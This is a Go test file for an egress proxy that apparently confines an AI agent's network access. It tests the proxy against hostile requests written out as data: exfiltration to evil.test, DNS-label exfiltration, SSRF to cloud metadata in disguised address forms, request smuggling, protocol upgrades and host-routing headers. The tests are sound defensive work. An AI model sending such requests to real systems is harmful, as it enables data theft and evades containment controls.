package egress

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// world is a proxy on a Unix socket with a made-up DNS: names resolve to
// documentation addresses, and dialing 203.0.113.10 reaches the real
// upstream on loopback. Every dial the proxy makes is recorded.
type world struct {
	sock     string
	log      *Log
	upstream string // the upstream's real address
	mu       sync.Mutex
	dialed   []string
	resolved []string
}

func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
	t.Helper()
	w := &world{log: &Log{}}
	up, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: upstream}
	go srv.Serve(up)
	t.Cleanup(func() { srv.Close() })
	w.upstream = up.Addr().String()
	dns := map[string]string{"allowed.test": "203.0.113.10", "meta.test": "169.254.169.254", "loop.test": "127.0.0.1",
		"x.corp.test": "10.0.0.5", "own.test": "192.0.2.2", "api.corp.test": "203.0.113.10",
		"nat64.test": "64:ff9b::a9fe:a9fe", "meta6.test": "fd00:ec2::254", "mapped.test": "::ffff:169.254.169.254",
		"wire.test": "168.63.129.16", "compat.test": "::169.254.169.254", "localhost": "127.0.0.1"}
	p.Log = w.log
	p.Own = []netip.Addr{netip.MustParseAddr("192.0.2.2")}
	p.Resolve = func(_ context.Context, name string) ([]netip.Addr, error) {
		w.mu.Lock()
		w.resolved = append(w.resolved, name)
		w.mu.Unlock()
		if a, ok := dns[name]; ok {
			return []netip.Addr{netip.MustParseAddr(a)}, nil
		}
		return nil, errors.New("no such host")
	}
	p.Dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
		w.mu.Lock()
		w.dialed = append(w.dialed, addr)
		w.mu.Unlock()
		if strings.HasPrefix(addr, "203.0.113.10:") {
			addr = w.upstream
		}
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}
	w.sock = filepath.Join(t.TempDir(), "egress.sock")
	ln, err := net.Listen("unix", w.sock)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Serve(ctx, ln) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
	return w
}

// raw sends request bytes to the proxy as a client would and returns the
// status line and the rest of the response (a tunnel's answer has none).
func (w *world) raw(t *testing.T, req string) (status, rest string) {
	t.Helper()
	c, err := net.Dial("unix", w.sock)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatal(err)
	}
	method, _, _ := strings.Cut(req, " ")
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err != nil {
		return "", err.Error()
	}
	defer resp.Body.Close()
	var b []byte
	if method != http.MethodConnect || resp.StatusCode != http.StatusOK {
		b, _ = io.ReadAll(resp.Body) // an open tunnel has no body to end
	}
	var hd strings.Builder
	resp.Header.Write(&hd)
	return resp.Proto + " " + resp.Status, hd.String() + "\r\n" + string(b)
}

func (w *world) dials() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.dialed...)
}

// echoHost answers with the Host the upstream saw.
func echoHost() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "host=%s path=%s auth=%q", r.Host, r.URL.Path, r.Header.Get("Proxy-Authorization"))
	})
}

// TestProxyAttacks: requests an agent could send the proxy, each
// checked for what reached the upstream and what the log recorded.
func TestProxyAttacks(t *testing.T) {
	t.Parallel()
	loopUp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer loopUp.Close()
	_, loopPort, _ := net.SplitHostPort(loopUp.Addr().String())
	rules, err := ParseRules("allowed.test, meta.test, loop.test, own.test, nat64.test, meta6.test, mapped.test, wire.test, compat.test, *.corp.test, " + loopUp.Addr().String() + ", localhost:" + loopPort)
	if err != nil {
		t.Fatal(err)
	}
	w := newWorld(t, &Proxy{Rules: rules}, echoHost())
	rows := []struct {
		name, req string
		status    string
		body      string
		refusedAs string
	}{
		{"allowed plain request", "GET http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "200", "host=allowed.test path=/x", ""},
		{"Host header naming another host", "GET http://allowed.test/x HTTP/1.1\r\nHost: evil.test\r\n\r\n", "200", "host=allowed.test", ""},
		{"upper case and a trailing dot", "GET http://ALLOWED.TEST./y HTTP/1.1\r\nHost: x\r\n\r\n", "200", "path=/y", ""},
		{"proxy credentials are not passed on", "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic c2VjcmV0\r\nConnection: close\r\n\r\n", "200", `auth=""`, ""},
		{"host not allowed", "GET http://evil.test/steal?d=repo HTTP/1.1\r\nHost: evil.test\r\n\r\n", "403", "--allow-host evil.test:80", "evil.test:80"},
		{"userinfo naming an allowed host", "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "user information", ""},
		{"userinfo on an allowed host", "GET http://u:p@allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "400", "user information", ""},
		{"loopback literal", "GET http://127.0.0.1:8/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "not on this step's allow-list", "127.0.0.1:8"},
		{"decimal address", "GET http://2130706433/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "numeric form", "2130706433:80"},
		{"hex address", "CONNECT 0x7f000001:443 HTTP/1.1\r\nHost: x\r\n\r\n", "403", "numeric form", "0x7f000001:443"},
		{"short address", "CONNECT 127.1:443 HTTP/1.1\r\n\r\n", "403", "numeric form", "127.1:443"},
		{"allowed name, another port", "CONNECT allowed.test:22 HTTP/1.1\r\n\r\n", "403", "--allow-host allowed.test:22", "allowed.test:22"},
		// Names a lenient resolver or IDNA mapping would take for the
		// allowed one: a Cyrillic е, an ideographic full stop, punycode.
		{"homograph of an allowed name", "CONNECT allowed.t\u0435st:443 HTTP/1.1\r\n\r\n", "403", "not a host name", `"allowed.t\u0435st":443`},
		{"ideographic full stop", "CONNECT allowed\u3002test:443 HTTP/1.1\r\n\r\n", "403", "not a host name", `"allowed\u3002test":443`},
		{"punycode name", "GET http://xn--allowed-9za.test/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "not on this step's allow-list", "xn--allowed-9za.test:80"},
		{"name leading to the metadata service", "CONNECT meta.test:443 HTTP/1.1\r\n\r\n", "403", "link-local", "meta.test:443"},
		{"name leading to the metadata service through NAT64", "CONNECT nat64.test:443 HTTP/1.1\r\n\r\n", "403", "link-local (embedded in 64:ff9b::a9fe:a9fe)", "nat64.test:443"},
		// An allowed name whose DNS answer (rebound, or the name's owner's)
		// is a metadata service in another form.
		{"name leading to AWS's IPv6 metadata service", "CONNECT meta6.test:80 HTTP/1.1\r\n\r\n", "403", "cloud metadata", "meta6.test:80"},
		{"name leading to an IPv4-mapped metadata address", "CONNECT mapped.test:80 HTTP/1.1\r\n\r\n", "403", "link-local", "mapped.test:80"},
		{"name leading to an IPv4-compatible metadata address", "CONNECT compat.test:80 HTTP/1.1\r\n\r\n", "403", "link-local (embedded in ::a9fe:a9fe)", "compat.test:80"},
		{"name leading to Azure's WireServer", "GET http://wire.test/machine?comp=goalstate HTTP/1.1\r\nHost: x\r\n\r\n", "403", "cloud metadata", "wire.test:80"},
		{"name leading to loopback", "GET http://loop.test/ HTTP/1.1\r\nHost: x\r\n\r\n", "403", "loopback", "loop.test:80"},
		{"name leading to this machine", "CONNECT own.test:443 HTTP/1.1\r\n\r\n", "403", "this machine's own", "own.test:443"},
		{"wildcard name leading to a private network", "CONNECT x.corp.test:443 HTTP/1.1\r\n\r\n", "403", "private", "x.corp.test:443"},
		{"relative request to the proxy itself", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "400", "absolute URLs", ""},
		{"another scheme", "GET ftp://allowed.test/ HTTP/1.1\r\nHost: x\r\n\r\n", "400", "not proxied", ""},
		{"header too large", "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\nX-Pad: " + strings.Repeat("a", 64<<10) + "\r\n\r\n", "431", "", ""},
		{"CONNECT with a Host header naming another host", "CONNECT allowed.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n", "200", "", ""},
		{"loopback allowed by address", "CONNECT " + loopUp.Addr().String() + " HTTP/1.1\r\n\r\n", "200", "", ""},
		// The name localhost itself, allowed, means loopback; another
		// name for loopback (loop.test above) is still refused.
		{"loopback allowed by the name localhost", "CONNECT localhost:" + loopPort + " HTTP/1.1\r\n\r\n", "200", "", ""},
	}
	dialed := 0
	for _, r := range rows {
		before := len(w.log.Refusals())
		status, rest := w.raw(t, r.req)
		if !strings.Contains(status, " "+r.status+" ") {
			t.Errorf("%s: status %q, want %s\n%s", r.name, status, r.status, rest)
		}
		if !strings.Contains(rest, r.body) {
			t.Errorf("%s: response lacks %q:\n%s", r.name, r.body, rest)
		}
		refused := w.log.Refusals()
		if r.refusedAs != "" {
			found := false
			for _, f := range refused {
				found = found || f.String() == r.refusedAs || strings.HasPrefix(f.String(), r.refusedAs+" ")
			}
			if !found {
				t.Errorf("%s: refusal of %s not recorded: %v", r.name, r.refusedAs, refused)
			}
		} else if len(refused) != before {
			t.Errorf("%s: recorded a refusal: %v", r.name, refused)
		}
		if r.refusedAs != "" && len(w.dials()) != dialed {
			t.Errorf("%s: refused, yet the proxy dialed %v", r.name, w.dials()[dialed:])
		}
		dialed = len(w.dials())
	}
	for _, d := range w.dials() {
		if d != "203.0.113.10:80" && d != loopUp.Addr().String() {
			t.Errorf("the proxy dialed %s", d)
		}
	}
}

// TestProxyTunnelStreams: a plain-HTTP CONNECT tunnel (and a forwarded
// connection) carries several requests, one with a chunked body, then a
// long stream through one fixed buffer (the heap does not grow with it)
// whose first bytes arrive before the stream ends.
func TestProxyTunnelStreams(t *testing.T) {
	const total = 64 << 20
	release := make(chan struct{})
	up := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/echo" {
			fmt.Fprintf(w, "te=%v ", r.TransferEncoding)
			io.Copy(w, r.Body)
			return
		}
		io.WriteString(w, "first\n")
		http.NewResponseController(w).Flush()
		<-release
		chunk := make([]byte, 64<<10)
		for n := 0; n < total; n += len(chunk) {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	})
	rules, _ := ParseRules("allowed.test")
	w := newWorld(t, &Proxy{Rules: rules}, up)
	for _, via := range []string{"CONNECT allowed.test:80 HTTP/1.1\r\n\r\n", ""} {
		c, err := net.Dial("unix", w.sock)
		if err != nil {
			t.Fatal(err)
		}
		br := bufio.NewReader(c)
		target := "/"
		if via != "" {
			io.WriteString(c, via)
			if line, _ := br.ReadString('\n'); !strings.Contains(line, " 200 ") {
				t.Fatalf("CONNECT: %q", line)
			}
			br.ReadString('\n')
		} else {
			target = "http://allowed.test/"
		}
		// Two requests before the stream on the same connection, one
		// with a chunked body.
		fmt.Fprintf(c, "POST %secho HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n", target)
		fmt.Fprintf(c, "GET %secho HTTP/1.1\r\nHost: allowed.test\r\n\r\n", target)
		for i, want := range []string{"te=[chunked] hello world", "te=[] "} {
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatalf("request %d: %v", i, err)
			}
			b, _ := io.ReadAll(resp.Body)
			if string(b) != want {
				t.Errorf("request %d through %q: answer %q, want %q", i, via, b, want)
			}
		}
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", target)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		line, err := bufio.NewReader(io.LimitReader(resp.Body, 6)).ReadString('\n')
		if line != "first\n" {
			t.Fatalf("the first chunk did not come through before the stream ended: %q, %v", line, err)
		}
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		release <- struct{}{}
		n, err := io.Copy(io.Discard, resp.Body)
		runtime.GC()
		runtime.ReadMemStats(&after)
		c.Close()
		if n != total || err != nil {
			t.Fatalf("streamed %d bytes, %v; want %d", n, err, total)
		}
		if grew := int64(after.HeapInuse) - int64(before.HeapInuse); grew > 8<<20 {
			t.Errorf("the heap grew by %d bytes while streaming %d", grew, total)
		}
	}
}

// TestProxySlowAndMany: a client that never finishes its header is cut
// off, and connections beyond MaxConns wait for a free slot.
func TestProxySlowAndMany(t *testing.T) {
	t.Parallel()
	rules, _ := ParseRules("allowed.test")
	w := newWorld(t, &Proxy{Rules: rules, MaxConns: 2, HeaderTimeout: 300 * time.Millisecond}, echoHost())
	slow, err := net.Dial("unix", w.sock)
	if err != nil {
		t.Fatal(err)
	}
	defer slow.Close()
	io.WriteString(slow, "GET http://allowed.test/ HTTP/1.1\r\nHo")
	slow.SetReadDeadline(time.Now().Add(5 * time.Second))
	start := time.Now()
	io.ReadAll(slow)
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("a slow header held its connection %s", d)
	}
	// Two idle tunnels take both slots; a third request waits.
	var tunnels []net.Conn
	for i := 0; i < 2; i++ {
		c, _ := net.Dial("unix", w.sock)
		defer c.Close()
		io.WriteString(c, "CONNECT allowed.test:80 HTTP/1.1\r\n\r\n")
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		if line, _ := bufio.NewReader(c).ReadString('\n'); !strings.Contains(line, " 200 ") {
			t.Fatalf("tunnel %d: %q", i, line)
		}
		tunnels = append(tunnels, c)
	}
	third, _ := net.Dial("unix", w.sock)
	defer third.Close()
	io.WriteString(third, "GET http://allowed.test/ HTTP/1.1\r\nHost: x\r\n\r\n")
	third.SetReadDeadline(time.Now().Add(400 * time.Millisecond))
	if b, _ := bufio.NewReader(third).Peek(1); len(b) > 0 {
		t.Fatal("a third connection was served while two held every slot")
	}
	tunnels[0].Close()
	third.SetReadDeadline(time.Now().Add(3 * time.Second))
	if line, _ := bufio.NewReader(third).ReadString('\n'); !strings.Contains(line, " 200 ") {
		t.Errorf("the third connection was not served once a slot was free: %q", line)
	}
}

// TestProxyPipelinedAndDisguised: an allowed request first, then on the
// same connection a request for a host that is not allowed (pipelined
// in one write, or hidden in the first's body by conflicting framing),
// and addresses spelled as IPv6 forms of a refused IPv4 one: each
// destination is checked on its own and nothing but the allowed host is
// dialled or even looked up in DNS.
func TestProxyPipelinedAndDisguised(t *testing.T) {
	t.Parallel()
	rules, err := ParseRules("allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	w := newWorld(t, &Proxy{Rules: rules}, echoHost())
	pipelined := "GET http://allowed.test/a HTTP/1.1\r\nHost: allowed.test\r\n\r\n" +
		"GET http://evil.test/b HTTP/1.1\r\nHost: allowed.test\r\n\r\n" +
		"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"
	smuggled := "POST http://allowed.test/a HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n" +
		"0\r\n\r\nGET http://evil.test/c HTTP/1.1\r\nHost: evil.test\r\n\r\n"
	for _, tc := range []struct {
		name, req string
		want      []string // status code of each response, in order
	}{
		// A refusal closes the connection: the CONNECT after it is never read.
		{"pipelined after an allowed request", pipelined, []string{"200", "403"}},
		// Chunked framing wins (RFC 9112 6.3): the hidden request is a
		// request of its own, checked like any other.
		{"smuggled by Content-Length and chunked framing", smuggled, []string{"200", "403"}},
		// Not HTTP at all: a TLS hello meant for some server, an SSH
		// banner, a SOCKS5 greeting.
		{"TLS hello", "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03evil.test\r\n\r\n", []string{"400"}},
		{"SSH banner", "SSH-2.0-OpenSSH_9.6\r\n\r\n", []string{"400"}},
		{"SOCKS5 greeting", "\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb\r\n\r\n", []string{"400"}},
	} {
		c, err := net.Dial("unix", w.sock)
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(3 * time.Second))
		io.WriteString(c, tc.req)
		br := bufio.NewReader(c)
		var got []string
		for range len(tc.want) + 1 {
			resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodGet})
			if err != nil {
				break
			}
			io.ReadAll(resp.Body)
			resp.Body.Close()
			got = append(got, strconv.Itoa(resp.StatusCode))
		}
		c.Close()
		if strings.Join(got, " ") != strings.Join(tc.want, " ") {
			t.Errorf("%s: statuses %v, want %v", tc.name, got, tc.want)
		}
	}
	for _, addr := range []string{"[::ffff:127.0.0.1]:443", "[::ffff:7f00:1]:443", "[::ffff:169.254.169.254]:80", "[64:ff9b::7f00:1]:443", "[::1]:443", "[fe80::1%25lo]:443"} {
		if status, rest := w.raw(t, "CONNECT "+addr+" HTTP/1.1\r\n\r\n"); strings.Contains(status, " 200 ") {
			t.Errorf("CONNECT %s went through: %s\n%s", addr, status, rest)
		}
	}
	for _, d := range w.dials() {
		if d != "203.0.113.10:80" {
			t.Errorf("the proxy dialed %s", d)
		}
	}
	// A name not allowed is never looked up: a DNS query for
	// <data>.attacker.example would carry data to attacker.example's
	// name servers without a connection.
	w.raw(t, "CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1\r\n\r\n")
	w.raw(t, "GET http://c2VjcmV0.exfil.example/ HTTP/1.1\r\nHost: x\r\n\r\n")
	w.mu.Lock()
	resolved := append([]string(nil), w.resolved...)
	w.mu.Unlock()
	for _, name := range resolved {
		if name != "allowed.test" {
			t.Errorf("the proxy looked up %s, which is not allowed", name)
		}
	}
	refused := fmt.Sprint(w.log.Refusals())
	if !strings.Contains(refused, "evil.test:80 (2 times)") {
		t.Errorf("the pipelined refusals were not recorded: %s", refused)
	}
}

// TestProxyRefusalsLoggedOnce: an agent retries a refused destination in
// a loop and sprays hundreds of others: planex's log gets one warning per
// destination it keeps (and one for the rest), not one per request,
// while the counts stay exact.
func TestProxyRefusalsLoggedOnce(t *testing.T) {
	t.Parallel()
	var logged strings.Builder
	var mu sync.Mutex
	logger := slog.New(slog.NewTextHandler(writerFunc(func(b []byte) (int, error) {
		mu.Lock()
		defer mu.Unlock()
		return logged.Write(b)
	}), nil))
	w := newWorld(t, &Proxy{Logger: logger}, echoHost())
	for i := 0; i < 300; i++ {
		w.raw(t, "CONNECT evil.test:443 HTTP/1.1\r\n\r\n")
	}
	for i := 0; i < 2*maxDistinct; i++ {
		w.raw(t, fmt.Sprintf("CONNECT h%d.evil.test:443 HTTP/1.1\r\n\r\n", i))
	}
	mu.Lock()
	lines := strings.Count(logged.String(), "egress refused")
	mu.Unlock()
	if lines > maxDistinct+1 {
		t.Errorf("%d warnings for %d refusals of %d destinations, want at most %d", lines, 300+2*maxDistinct, 1+2*maxDistinct, maxDistinct+1)
	}
	rs := w.log.Refusals()
	if len(rs) == 0 || rs[0].Host != "evil.test" || rs[0].Count != 300 {
		t.Errorf("the retried destination's count is not exact: %v", rs)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(b []byte) (int, error) { return f(b) }

// TestProxyForwardDropsUpgrades: a plain request forwarded to an allowed
// host asks to switch protocols, to h2c (whose HTTP/2 streams name hosts
// of their own) or a WebSocket (bytes the proxy would not read), and
// declares a trailer for Host. The upstream sees no Upgrade, no
// HTTP2-Settings and no Host but the URL's: the forwarded request stays
// one HTTP/1.1 request the proxy checked.
func TestProxyForwardDropsUpgrades(t *testing.T) {
	t.Parallel()
	rules, err := ParseRules("allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	seen := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "upgrade=%q settings=%q host=%s trailer-host=%q", r.Header.Get("Upgrade"), r.Header.Get("Http2-Settings"), r.Host, r.Trailer.Get("Host"))
	})
	w := newWorld(t, &Proxy{Rules: rules}, seen)
	for name, req := range map[string]string{
		"h2c":       "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
		"websocket": "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
		"trailer":   "POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTrailer: Host\r\n\r\n1\r\nx\r\n0\r\nHost: evil.test\r\n\r\n",
	} {
		status, rest := w.raw(t, req)
		if !strings.Contains(status, " 200 ") || !strings.Contains(rest, `upgrade="" settings="" host=allowed.test trailer-host=""`) {
			t.Errorf("%s: %s\n%s", name, status, rest)
		}
	}
}

// TestRedTeamProxyRoutingHeaders: a front or CDN that an allowed host
// sits behind may route a request by a header a proxy of its own would
// set, not by Host: X-Forwarded-Host, Forwarded's host=, X-Host,
// X-Original-Host, X-HTTP-Host-Override, or a rewritten target
// (X-Original-URL, X-Rewrite-URL, which IIS and fronts configured from
// it read). An agent sends them on a plain-HTTP request to an allowed
// host, forwarded and through a CONNECT tunnel, naming a host nobody
// allowed. They are a proxy's to set, never a client's: the upstream gets
// none of them, and the request its own Host and path.
func TestRedTeamProxyRoutingHeaders(t *testing.T) {
	t.Parallel()
	rules, err := ParseRules("allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	routing := []string{"X-Forwarded-Host", "Forwarded", "X-Forwarded-Server", "X-Host", "X-Original-Host",
		"X-Http-Host-Override", "X-Original-Url", "X-Rewrite-Url", "X-Forwarded-Prefix"}
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		var got []string
		for _, name := range routing {
			if _, ok := r.Header[name]; ok {
				got = append(got, name)
			}
		}
		fmt.Fprintf(w, "host=%s path=%s accept=%s routing=%v", r.Host, r.URL.Path, r.Header.Get("Accept"), got)
	})
	w := newWorld(t, &Proxy{Rules: rules}, echo)
	headers := "X-Forwarded-Host: evil.test\r\nForwarded: for=1.2.3.4;host=evil.test;proto=http\r\nX-Forwarded-Server: evil.test\r\n" +
		"X-Host: evil.test\r\nX-Original-Host: evil.test\r\nX-HTTP-Host-Override: evil.test\r\n" +
		"X-Original-URL: http://evil.test/admin\r\nX-Rewrite-URL: http://evil.test/admin\r\nX-Forwarded-Prefix: //evil.test\r\n" +
		"Accept: */*\r\n"
	want := "host=allowed.test path=/x accept=*/* routing=[]"
	status, rest := w.raw(t, "GET http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"\r\n")
	if !strings.Contains(status, " 200 ") || !strings.Contains(rest, want) {
		t.Errorf("forwarded: %s\n%s\nwant %s", status, rest, want)
	}
	c, br := openTunnel(t, w.sock)
	defer c.Close()
	io.WriteString(c, "GET /x HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("tunnelled: %v", err)
	}
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 || !strings.Contains(string(b), want) {
		t.Errorf("tunnelled: %d %s\nwant %s", resp.StatusCode, b, want)
	}
	// The model gateway, whose provider sits behind a front as well.
	hs := httptest.NewServer(echo)
	defer hs.Close()
	u, _ := url.Parse(hs.URL)
	const ph = "planex-placeholder-routing"
	client := serveGateway(t, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "sk-real", Placeholder: ph})
	req, _ := http.NewRequest("POST", "http://gateway/v1/messages", strings.NewReader("{}"))
	req.Header.Set("X-Api-Key", ph)
	req.Header.Set("Accept", "*/*")
	for _, line := range strings.Split(strings.TrimSpace(headers), "\r\n") {
		if k, v, ok := strings.Cut(line, ": "); ok {
			req.Header.Add(k, v)
		}
	}
	gresp, err := client.Do(req)
	if err != nil {
		t.Fatalf("gateway: %v", err)
	}
	gb, _ := io.ReadAll(gresp.Body)
	gresp.Body.Close()
	if wantGW := "path=/v1/messages accept=*/* routing=[]"; gresp.StatusCode != 200 || !strings.Contains(string(gb), wantGW) {
		t.Errorf("gateway: %d %s\nwant %s", gresp.StatusCode, gb, wantGW)
	}
}

// TestRedTeamProxyRoutingHeaderSpellings: the routing headers again,
// spelled so a list of names compared one by one misses them: with
// underscores (X_Forwarded_Host: CGI, PHP-FPM and WSGI servers read it
// as HTTP_X_FORWARDED_HOST, the same variable the dashed name fills),
// in another case, twice, folded over two lines (obs-fold), and in a
// second request pipelined in the same tunnel behind an innocent one.
// The upstream gets none of them, under any spelling.
func TestRedTeamProxyRoutingHeaderSpellings(t *testing.T) {
	t.Parallel()
	rules, err := ParseRules("allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		var got []string
		for name, vs := range r.Trailer {
			got = append(got, "trailer "+name+"="+strings.Join(vs, ","))
		}
		for name, vs := range r.Header {
			norm := strings.ToLower(strings.ReplaceAll(name, "_", "-"))
			for _, routing := range routingHeaders() {
				if norm == strings.ToLower(routing) {
					got = append(got, name+"="+strings.Join(vs, ","))
				}
			}
		}
		fmt.Fprintf(w, "host=%s routing=%v;", r.Host, got)
	})
	w := newWorld(t, &Proxy{Rules: rules}, echo)
	headers := "X_Forwarded_Host: evil.test\r\nx_forwarded_host: evil.test\r\nX_ORIGINAL_URL: http://evil.test/admin\r\n" +
		"x-FORWARDED-host: evil.test\r\nX-Forwarded-Host: a.test\r\nX-Forwarded-Host: evil.test\r\n" +
		"X-Host:\r\n evil.test\r\nforwarded: host=evil.test\r\nX_Http_Host_Override: evil.test\r\n"
	const want = "host=allowed.test routing=[];"
	status, rest := w.raw(t, "GET http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"\r\n")
	if !strings.Contains(status, " 200 ") || !strings.Contains(rest, want) {
		t.Errorf("forwarded: %s\n%s\nwant %s", status, rest, want)
	}
	// A chunked body's trailer, which a server may merge into the
	// header once the body is read.
	chunked := "POST http://allowed.test/x HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Forwarded-Host\r\n\r\n" +
		"1\r\nx\r\n0\r\nX-Forwarded-Host: evil.test\r\n\r\n"
	if status, rest := w.raw(t, chunked); !strings.Contains(status, " 200 ") || !strings.Contains(rest, want) {
		t.Errorf("forwarded with a trailer: %s\n%s\nwant %s", status, rest, want)
	}
	c, br := openTunnel(t, w.sock)
	defer c.Close()
	io.WriteString(c, "GET /a HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /b HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"\r\n")
	for _, which := range []string{"first", "pipelined"} {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("tunnelled, %s: %v", which, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || !strings.Contains(string(b), want) {
			t.Errorf("tunnelled, %s: %d %s\nwant %s", which, resp.StatusCode, b, want)
		}
	}
}
